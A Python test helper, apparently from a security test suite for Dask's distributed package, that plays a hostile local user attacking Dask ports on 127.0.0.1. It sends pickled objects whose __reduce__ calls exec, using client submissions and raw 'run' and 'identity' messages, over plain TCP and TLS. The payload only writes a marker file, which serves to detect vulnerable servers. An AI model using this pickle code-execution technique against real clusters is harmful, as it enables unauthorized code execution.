"""What any other user of this computer can try: take a port and make the process behind it run code.

``attack`` runs this file as another user. It goes through each port with a Dask client and with raw messages
of Dask's that carry a pickle, each in the clear and over TLS with a certificate that the attacker made, or
was given for something else.
"""

from __future__ import annotations

import asyncio
import json
import os
import pickle
import subprocess
import sys
import tempfile
from collections.abc import Mapping, Sequence
from pathlib import Path

NOBODY = 65534
GIVE_UP_S = 5.0


def attack(ports: Sequence[int], given: Mapping[str, str] | None = None) -> set[str]:
    """Attack ``ports`` of 127.0.0.1 as NOBODY; what was run: ``PORT-KIND-UID`` for each success.

    ``given``: PEM texts under Dask's names."""
    with tempfile.TemporaryDirectory() as folder:  # not pytest's, into which other users cannot look
        os.chmod(folder, 0o777)
        command = [sys.executable, __file__, folder, *map(str, ports)]
        run = subprocess.run(
            command, input=json.dumps(given or {}), capture_output=True, text=True, timeout=120
        )
        assert run.returncode == 0, run.stderr
        return set(os.listdir(folder))


class Evil:
    """Unpickling it is enough."""

    def __init__(self, booty: str) -> None:
        self.code = f"import os; open({booty!r} + f'-{{os.getuid()}}', 'w').close()"

    def __reduce__(self) -> tuple[object, ...]:
        return exec, (self.code,)


async def _client(address: str, booty: str, security: object) -> None:
    from distributed import Client

    async with Client(address, security=security, asynchronous=True, timeout=GIVE_UP_S) as client:
        await client.submit(exec, Evil(booty).code, pure=False)


async def _raw(address: str, booty: str, security: object) -> None:
    from distributed import Security
    from distributed.comm.core import connect
    from distributed.protocol.serialize import ToPickle

    assert isinstance(security, Security)
    comm = await connect(address, timeout=GIVE_UP_S, **security.get_connection_args("client"))
    await comm.write({"op": "run", "function": pickle.dumps(Evil(booty)), "reply": True})
    await comm.read()
    comm = await connect(address, timeout=GIVE_UP_S, **security.get_connection_args("client"))
    await comm.write({"op": "identity", "reply": True, "more": ToPickle(Evil(booty))})
    await comm.read()


async def _attack_all(booty: Path, ports: Sequence[int], securities: Mapping[str, object]) -> None:
    tries = [
        asyncio.wait_for(
            way(f"{protocol}://127.0.0.1:{port}", str(booty / f"{port}-{name}-{protocol}"), security),
            GIVE_UP_S,
        )
        for port in ports
        for name, way in (("client", _client), ("raw", _raw))
        for protocol, security in securities.items()
    ]
    await asyncio.gather(*tries, return_exceptions=True)


if __name__ == "__main__":
    import logging

    from distributed import Security
    from distributed.client import Client  # noqa: F401

    # before the rights are gone that may be needed to read packages, cryptography among them
    given = json.load(sys.stdin)
    securities = {
        "tcp": Security(),
        "tls": Security(require_encryption=True, **given) if given else Security.temporary(),
    }
    if os.getuid() == 0:
        os.setgroups([])
        os.setgid(NOBODY)
        os.setuid(NOBODY)
    logging.disable()
    asyncio.run(_attack_all(Path(sys.argv[1]), [int(port) for port in sys.argv[2:]], securities))
    os._exit(0)  # whatever still tries to connect is of no interest
